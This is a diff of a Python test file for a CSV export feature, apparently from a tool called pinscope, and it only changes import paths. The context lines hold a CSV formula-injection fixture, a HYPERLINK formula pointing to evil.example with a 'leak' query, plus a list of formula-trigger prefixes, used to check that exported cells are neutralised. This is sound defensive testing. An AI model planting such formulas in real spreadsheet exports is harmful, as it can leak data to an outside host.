@@ -5,7 +5,7 @@ import asyncio
 import csv
 import io
 
-from collectors.sim.node import CtrSpec, NodeSpec, PodSpec
+from pinscope.collectors.sim.node import CtrSpec, NodeSpec, PodSpec
 from frozen import FrozenApp, frozen_samples
 
 HOST = '=HYPERLINK("http://evil.example/?leak","click me")'
@@ -48,7 +48,7 @@ def test_hostile_names_reach_the_csv_as_text_not_formulas(tmp_path, monkeypatch)
 
 
 def test_cells_numbers_stay_numbers_text_is_neutralised():
-    from tui.export import csv_cell, to_csv
+    from pinscope.tui.export import csv_cell, to_csv
 
     assert csv_cell(-1) == -1 and csv_cell(0.25) == 0.25 and csv_cell(None) == "" and csv_cell(True) == "true"
     for bad in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"):
